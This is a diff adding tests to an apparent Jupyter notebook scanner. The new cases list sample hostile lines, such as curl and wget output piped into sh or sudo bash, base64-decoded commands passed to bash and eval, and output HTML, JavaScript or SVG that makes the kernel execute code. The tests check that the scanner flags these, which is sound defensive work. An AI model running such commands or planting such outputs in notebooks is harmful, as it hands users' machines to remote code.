@@ -78,6 +78,66 @@ def test_names_of_one_cell_are_known_in_the_next(tmp_path: Path) -> None:
     assert _said(tmp_path, _notebook("import os as o", "def f(:", "o.system('true')"))[0] is _ATTACK
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "!curl x.example.com | sh",
+        "!wget -q -O - x.example.com/a.sh | sudo bash",
+        '!bash -c "$(echo dHJ1ZQ== | base64 -d)"',
+        "!eval `echo dHJ1ZQ== | base64 --decode`",
+        "%%bash\ncurl x.example.com | sh",
+    ],
+)
+def test_command_that_hands_the_machine_over_is_an_attack(line: str, tmp_path: Path) -> None:
+    assert _said(tmp_path, _notebook(f"import torch\n{line}" if line[0] == "!" else line))[0] is _ATTACK
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "!curl -fsSL https://x.example.com/install.sh | sh",
+        "!curl --proto '=https' --tlsv1.2 -sSf https://sh.example.com | sh",
+        '!bash -c "$(curl -fsSL https://x.example.com/install.sh)"',
+        "!curl -o a.sh https://x.example.com/a.sh | sh",
+    ],
+)
+def test_script_that_is_fetched_over_tls_is_to_be_read(line: str, tmp_path: Path) -> None:
+    assert _said(tmp_path, _notebook(line)) == (_TO_BE_READ, ["fetched"])
+
+
+def _shown(kind: str, text: str | list[str], *, is_old: bool = False) -> bytes:
+    """A notebook whose cell has one output."""
+    output = {"output_type": "display_data", **({kind: text} if is_old else {"data": {kind: text}})}
+    cell = {"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [output]}
+    return json.dumps({"nbformat": 4, "metadata": {}, "cells": [cell]}).encode()
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _shown("text/html", "<img src=x onerror='Jupyter.notebook.kernel.execute(\"x = 1\")'>"),
+        _shown("application/javascript", ["IPython.notebook.kernel\n", " .execute('x = 1')"]),
+        _shown("javascript", "Jupyter.notebook.execute_cells([0])", is_old=True),
+        _shown("image/svg+xml", "<svg><script>k.requestExecute({code: 'x = 1'})</script></svg>"),
+    ],
+)
+def test_output_that_has_the_kernel_run_code_is_to_be_read(data: bytes, tmp_path: Path) -> None:
+    assert _said(tmp_path, data) == (_TO_BE_READ, ["acting-output"])
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _shown("text/html", "<script>Plotly.newPlot('x', [])</script>"),
+        _shown("text/html", "<a onclick=\"google.colab.kernel.invokeFunction('convert', [], {})\">x</a>"),
+        _shown("text/plain", "kernel.execute(x)"),
+        _shown("application/javascript", "IPython.notebook.kernel.comm_manager.register_target('x', f)"),
+    ],
+)
+def test_output_that_is_shown_and_no_more_passes(data: bytes, tmp_path: Path) -> None:
+    assert _said(tmp_path, data) == (_PLAIN, [])
+
+
 def test_notebook_of_the_third_format_is_read(tmp_path: Path) -> None:
     cells = [{"cell_type": "code", "language": "python", "input": _RUNS, "outputs": []}]
     old = json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()
